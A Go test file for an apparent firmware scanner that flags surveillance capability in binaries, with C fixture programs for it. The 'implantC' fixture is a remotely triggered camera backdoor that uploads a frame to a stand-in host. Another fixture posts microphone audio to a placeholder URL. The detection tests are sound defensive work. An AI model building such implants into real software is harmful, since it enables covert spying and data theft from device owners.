package surveil

import (
	"fmt"
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/finding"
	"github.com/doorman-sec/doorman/internal/fixture"
)

// The seed's scenario compiled: wait for a UDP datagram carrying a magic
// word on a fixed port, then open the camera and upload a frame to a
// hard-coded host.
const implantC = `
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
static const char *url = "http://192.0.2.7/cam/upload.php";
int main(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(31337);
	bind(s, (struct sockaddr *)&a, sizeof a);
	char buf[64]; struct sockaddr_in from; socklen_t fl = sizeof from;
	recvfrom(s, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
	if (memcmp(buf, "W4KEUP", 6) != 0) return 0;
	int cam = open("/dev/video0", O_RDONLY);
	char frame[4096]; read(cam, frame, sizeof frame);
	int c = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in d = {0}; d.sin_family = AF_INET; d.sin_port = htons(80); inet_pton(AF_INET, "192.0.2.7", &d.sin_addr);
	connect(c, (struct sockaddr *)&d, sizeof d);
	send(c, "POST ", 5, 0); send(c, url, strlen(url), 0); send(c, frame, sizeof frame, 0);
	return 0;
}
`

// An mjpg-streamer-like server: camera, then serve the frames to every
// client that connects. The camera's ordinary job.
const streamerC = `
#include <fcntl.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
extern int v4l2_open(const char *, int, ...);
extern int v4l2_ioctl(int, unsigned long, ...);
int main(void) {
	int cam = v4l2_open("/dev/video0", O_RDWR); v4l2_ioctl(cam, 0, 0);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(8080);
	bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 4);
	for (;;) { int c = accept(s, 0, 0); char f[4096]; read(cam, f, sizeof f);
		send(c, "HTTP/1.0 200 OK\r\nContent-Type: multipart/x-mixed-replace\r\n\r\n", 60, 0); send(c, f, sizeof f, 0); close(c); }
}
`

// An arecord-like recorder: microphone to a local file.
const recorderC = `
#include <stdio.h>
extern int snd_pcm_open(void **, const char *, int, int);
extern int snd_pcm_readi(void *, void *, unsigned long);
int main(int argc, char **argv) {
	void *h; snd_pcm_open(&h, "default", 1, 0);
	FILE *f = fopen(argc > 1 ? argv[1] : "out.wav", "wb"); char b[4096];
	for (int i = 0; i < 100; i++) { snd_pcm_readi(h, b, 1024); fwrite(b, 1, sizeof b, f); }
	return 0;
}
`

// A microphone recorder that posts what it hears to a fixed host, no
// trigger.
const micUploaderC = `
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
extern int snd_pcm_open(void **, const char *, int, int);
extern int snd_pcm_readi(void *, void *, unsigned long);
int main(void) {
	void *h; snd_pcm_open(&h, "default", 1, 0); char b[4096]; snd_pcm_readi(h, b, 1024);
	int c = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in d = {0};
	connect(c, (struct sockaddr *)&d, sizeof d);
	const char *u = "https://rec.example.invalid/upload";
	send(c, u, strlen(u), 0); send(c, b, sizeof b, 0);
	return 0;
}
`

// A kiosk UI: draws on the framebuffer, reads the touch screen, fetches
// the weather. Every embedded GUI looks like this.
const kioskC = `
#include <fcntl.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
int main(void) {
	int fb = open("/dev/fb0", O_RDWR); int ts = open("/dev/input/event0", O_RDONLY);
	int c = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in d = {0};
	connect(c, (struct sockaddr *)&d, sizeof d);
	const char *u = "https://weather.example.com/api/today";
	send(c, u, 10, 0); char b[64]; read(ts, b, sizeof b); write(fb, b, sizeof b);
	return 0;
}
`

func TestImplantBinaryIsCritical(t *testing.T) {
	r := scan(t, map[string]string{"usr/bin/camd": buildC(t, implantC)})
	f := one(t, r, RuleBinary, "usr/bin/camd")
	if f.Severity != finding.Critical || f.Category != finding.SurveillanceCapability || f.Location.Offset == nil {
		t.Fatalf("got %+v", f)
	}
	mustContain(t, f.Message, "/dev/video0", "connect", "bind, recvfrom", "triggered remotely", "http://192.0.2.7/cam/upload.php")
	mustContain(t, fmt.Sprint(f.CWE), "CWE-359", "CWE-912")
}

func TestMicUploaderIsHigh(t *testing.T) {
	r := scan(t, map[string]string{"usr/sbin/audiod": buildC(t, micUploaderC)})
	f := one(t, r, RuleBinary, "audiod")
	if f.Severity != finding.High {
		t.Fatalf("got %+v", f)
	}
	mustContain(t, f.Message, "microphone", "snd_pcm_readi", "https://rec.example.invalid/upload")
}

func TestStreamingServerAndRecorderAreInfo(t *testing.T) {
	r := scan(t, map[string]string{
		"usr/bin/mjpg_streamer": buildC(t, streamerC),
		"usr/bin/arecord":       buildC(t, recorderC),
	})
	for _, name := range []string{"mjpg_streamer", "arecord"} {
		f := one(t, r, RuleBinary, name)
		if f.Severity != finding.Info {
			t.Errorf("%s: want info, got %+v", name, f)
		}
	}
	mustContain(t, one(t, r, RuleBinary, "mjpg_streamer").Message, "v4l2_open", "serves clients")
}

func TestKioskGUIIsQuiet(t *testing.T) {
	quiet(t, scan(t, map[string]string{"usr/bin/kiosk": buildC(t, kioskC)}))
}

// End to end: the implant inside a squashfs carved out of a raw firmware
// image.
func TestImplantInsideFirmware(t *testing.T) {
	files := append(fixture.RouterRootfs(), fixture.File{Path: "usr/bin/camd", Mode: 0o755, Data: []byte(buildC(t, implantC))})
	img := fixture.Blob(0x80000, 11, fixture.Part{Offset: 0x20013, Data: fixture.Squashfs(files)})
	r := scan(t, map[string]string{"fw.bin": string(img)})
	f := one(t, r, RuleBinary, "!/usr/bin/camd")
	mustContain(t, f.Location.Path, "fw.bin!/squashfs@0x20013!/usr/bin/camd")
	if f.Severity != finding.Critical || len(r.Findings) != 1 {
		t.Fatalf("got %+v", r.Findings)
	}
}

// BusyBox (and copies of it under other names) carries every applet's
// devices and sockets: never more than info. The implant's own code with a
// BusyBox banner compiled in stands for it.
func TestBusyBoxIsNotSurveillance(t *testing.T) {
	src := strings.Replace(implantC, "int main", "const char banner[] = \"BusyBox v1.35.0 (2023-01-01) multi-call binary.\";\nint main", 1)
	r := scan(t, map[string]string{"usr/sbin/crond": buildC(t, src)})
	for _, f := range r.Findings {
		if f.Severity > finding.Info {
			t.Errorf("BusyBox copy reported at %s: %s", f.Severity, f.Message)
		}
	}
}
